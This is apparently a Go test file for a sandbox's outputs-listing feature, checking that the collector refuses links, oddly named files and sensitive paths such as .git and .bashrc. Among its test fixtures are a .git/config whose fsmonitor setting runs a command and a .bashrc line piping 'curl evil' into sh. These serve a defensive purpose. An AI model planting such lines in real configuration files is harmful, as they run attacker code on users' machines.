//go:build linux

package outputs

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/oma-sandbox/oma-sandbox/agentwire"
	"github.com/oma-sandbox/oma-sandbox/guestagent"
)

// The listing ParseListing reads is made by the guest agent's outputs-list
// builtin: these tests run it on real trees and parse what it prints.

// runListing runs the agent's listing here, as this process's user.
func runListing(t *testing.T, args []string) (stdout, stderr []byte, code int) {
	t.Helper()
	var out, errb bytes.Buffer
	code, err := guestagent.RunBuiltin(agentwire.BuiltinOutputsList, args, strings.NewReader(""), &out, &errb)
	require.NoError(t, err)
	return out.Bytes(), errb.Bytes(), code
}

func rawRecords(t *testing.T, out []byte) (unnamed string, recs [][5]string) {
	t.Helper()
	f := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
	require.Equal(t, 1, len(f)%5, "fields: %q", f)
	for i := 1; i < len(f); i += 5 {
		recs = append(recs, [5]string(f[i:i+5]))
	}
	return f[0], recs
}

func TestAgentListing(t *testing.T) {
	root := filepath.Join(t.TempDir(), "outputs")
	files := map[string]string{
		"top.txt":                       "top",
		"a/b/c/deep.json":               `{"x":1}`,
		"a/b/empty":                     "",
		"with space.md":                 "spaced",
		".hidden/-dash.csv":             "h",
		"ünï/çødé.txt":                  "unicode",
		"z/" + strings.Repeat("n", 255): "long name",
	}
	refused := map[string]string{
		"name\nwith newline":         "nl",
		`back\slash`:                 "bs",
		"tab\there":                  "tab",
		".git/config":                "[core]\n\tfsmonitor = touch /tmp/pwned\n",
		"repo/.git/hooks/pre-commit": "#!/bin/sh\n",
		".bashrc":                    "curl evil | sh\n",
		"proj/.VSCode/tasks.json":    "{}",
		"h1":                         "linked",
	}
	for rel, content := range files {
		writeFile(t, filepath.Join(root, rel), content)
	}
	for rel, content := range refused {
		writeFile(t, filepath.Join(root, rel), content)
	}
	require.NoError(t, os.Link(filepath.Join(root, "h1"), filepath.Join(root, "h2")))
	outside := filepath.Join(t.TempDir(), "secret")
	writeFile(t, outside, "secret")
	require.NoError(t, os.Symlink(outside, filepath.Join(root, "link-to-file")))
	require.NoError(t, os.Symlink(filepath.Dir(outside), filepath.Join(root, "link-to-dir")))
	require.NoError(t, os.Symlink("missing", filepath.Join(root, "dangling")))
	require.NoError(t, syscall.Mkfifo(filepath.Join(root, "fifo"), 0o644))
	for _, extra := range []string{"h2", "link-to-file", "link-to-dir", "dangling", "fifo"} {
		refused[extra] = ""
	}

	args := ListingArgs(root, Policy{})
	assert.Equal(t, []string{root, "100", "26214400", "104857600", "100", strconv.Itoa(len(deniedNames))}, args[:6])
	stdout, stderr, code := runListing(t, args)
	require.Equal(t, 0, code, "stderr: %s", stderr)
	assert.Empty(t, stderr)

	unnamed, raw := rawRecords(t, stdout)
	assert.Equal(t, "0", unnamed)
	var paths []string
	for _, r := range raw {
		paths = append(paths, r[0])
		_, ok := files[r[0]]
		assert.Equal(t, ok, r[4] != "", "%q is hashed only when collected", r[0])
	}
	assert.True(t, slices.IsSorted(paths), "byte order")
	assert.Len(t, raw, len(files)+len(refused), "every non-directory entry, nothing followed")

	l, err := ParseListing(stdout, Policy{})
	require.NoError(t, err)
	require.Len(t, l.Records, len(files))
	for _, r := range l.Records {
		assert.Equal(t, int64(len(files[r.Path])), r.Size, r.Path)
		assert.Equal(t, sum(files[r.Path]), r.SHA256, r.Path)
	}
	got := reasons(l)
	assert.Len(t, got, len(refused))
	for p := range refused {
		assert.NotEqual(t, "listed without a sha256", got[p], "guest and host agree on %q", p)
		assert.NotEmpty(t, got[p], p)
	}
	assert.Contains(t, got["h1"], "hard link")
	assert.Contains(t, got["h2"], "hard link")
	assert.Contains(t, got["link-to-dir"], "symbolic link")
	assert.Contains(t, got["repo/.git/hooks/pre-commit"], `".git"`)

	// Allowed by name, the guest hashes them too.
	args = ListingArgs(root, Policy{Allow: []string{".git", "proj/.VSCode"}})
	stdout, stderr, code = runListing(t, args)
	require.Equal(t, 0, code, "stderr: %s", stderr)
	l, err = ParseListing(stdout, Policy{Allow: []string{".git", "proj/.VSCode"}})
	require.NoError(t, err)
	assert.Contains(t, recordPaths(l), ".git/config")
	assert.Contains(t, recordPaths(l), "proj/.VSCode/tasks.json")
	assert.Contains(t, reasons(l), "repo/.git/hooks/pre-commit")
}

func TestAgentListingEmptyAndMissing(t *testing.T) {
	dir := t.TempDir()
	for _, root := range []string{filepath.Join(dir, "missing"), dir} {
		args := ListingArgs(root, Policy{})
		stdout, stderr, code := runListing(t, args)
		assert.Equal(t, 0, code, "stderr: %s", stderr)
		assert.Equal(t, "0\x00", string(stdout))
	}
	writeFile(t, filepath.Join(dir, "target", "f"), "x")
	link := filepath.Join(dir, "link")
	require.NoError(t, os.Symlink(filepath.Join(dir, "target"), link))
	args := ListingArgs(link, Policy{})
	stdout, stderr, code := runListing(t, args)
	assert.Equal(t, 1, code)
	assert.Empty(t, stdout)
	assert.Contains(t, string(stderr), "symlink")
}

func TestAgentListingLimits(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "a"), "12345")
	writeFile(t, filepath.Join(root, "b/c"), "123")
	writeFile(t, filepath.Join(root, "d e"), "1")
	writeFile(t, filepath.Join(root, "sp ace/big"), "123456")
	cases := []struct {
		limits  Limits
		records []string
	}{
		{Limits{MaxFiles: 2}, []string{"a", "b/c"}},
		{Limits{MaxFileBytes: 4}, []string{"b/c", "d e"}},
		{Limits{MaxBytes: 8}, []string{"a", "b/c"}},
		{Limits{MaxBytes: 9}, []string{"a", "b/c", "d e"}},
		{Limits{MaxFiles: 4, MaxFileBytes: 6, MaxBytes: 15}, []string{"a", "b/c", "d e", "sp ace/big"}},
	}
	for _, c := range cases {
		args := ListingArgs(root, Policy{Limits: c.limits})
		stdout, stderr, code := runListing(t, args)
		require.Equal(t, 0, code, "stderr: %s", stderr)
		l, err := ParseListing(stdout, Policy{Limits: c.limits})
		require.NoError(t, err)
		assert.Equal(t, c.records, recordPaths(l), "%+v", c.limits)
		assert.Len(t, l.Refused, 4-len(c.records))
		for _, r := range l.Refused {
			assert.NotEqual(t, "listed without a sha256", r.Reason)
		}
	}
}

func TestAgentListingNamesABoundedNumberOfRefusals(t *testing.T) {
	root := t.TempDir()
	for i := range 150 {
		require.NoError(t, os.Symlink("/etc/passwd", filepath.Join(root, "link"+strconv.Itoa(1000+i))))
	}
	writeFile(t, filepath.Join(root, "z.txt"), "kept")
	// A path longer than PATH_MAX is made in steps, each from the last.
	deep, err := os.OpenRoot(root)
	require.NoError(t, err)
	for range 3 {
		rel := strings.Repeat("d/", 700)
		require.NoError(t, deep.MkdirAll(rel, 0o755))
		next, err := deep.OpenRoot(rel)
		require.NoError(t, err)
		deep.Close()
		deep = next
	}
	require.NoError(t, deep.WriteFile("deep", []byte("deep"), 0o644))
	require.NoError(t, deep.WriteFile("deeper", []byte("deeper"), 0o644))
	deep.Close()
	args := ListingArgs(root, Policy{})
	stdout, stderr, code := runListing(t, args)
	require.Equal(t, 0, code, "stderr: %s", stderr)
	assert.LessOrEqual(t, int64(len(stdout)), DefaultLimits.MaxListingBytes())
	l, err := ParseListing(stdout, Policy{})
	require.NoError(t, err)
	assert.Equal(t, []string{"z.txt"}, recordPaths(l), "a file after many refusals is still collected")
	assert.Len(t, l.Refused, MaxListedRefusals)
	assert.Equal(t, 51, l.Unlisted, "the other 50 links, and the directory too deep to walk (both its files' paths are longer than 4096 bytes)")
}

func TestAgentListingManyFiles(t *testing.T) {
	root := t.TempDir()
	want := map[string]string{}
	for i := range 100 {
		rel := filepath.Join("d"+strconv.Itoa(i%7), "f "+strconv.Itoa(i))
		want[filepath.ToSlash(rel)] = strings.Repeat("x", i)
		writeFile(t, filepath.Join(root, rel), strings.Repeat("x", i))
	}
	args := ListingArgs(root, Policy{})
	stdout, stderr, code := runListing(t, args)
	require.Equal(t, 0, code, "stderr: %s", stderr)
	l, err := ParseListing(stdout, Policy{})
	require.NoError(t, err)
	require.Len(t, l.Records, 100)
	for _, r := range l.Records {
		assert.Equal(t, sum(want[r.Path]), r.SHA256, r.Path)
		assert.Equal(t, int64(len(want[r.Path])), r.Size, r.Path)
	}
}

func TestAgentListingStopsClassifyingWhenNothingMoreCanBeNamed(t *testing.T) {
	root := t.TempDir()
	for i := range 30 {
		writeFile(t, filepath.Join(root, "f"+strconv.Itoa(100+i)), "x")
	}
	args := ListingArgs(root, Policy{Limits: Limits{MaxFiles: 5}})
	args[4] = "3" // name three refusals
	stdout, stderr, code := runListing(t, args)
	require.Equal(t, 0, code, "stderr: %s", stderr)
	l, err := ParseListing(stdout, Policy{Limits: Limits{MaxFiles: 5}})
	require.NoError(t, err)
	assert.Len(t, l.Records, 5)
	assert.Len(t, l.Refused, 3)
	assert.Equal(t, 22, l.Unlisted)
}
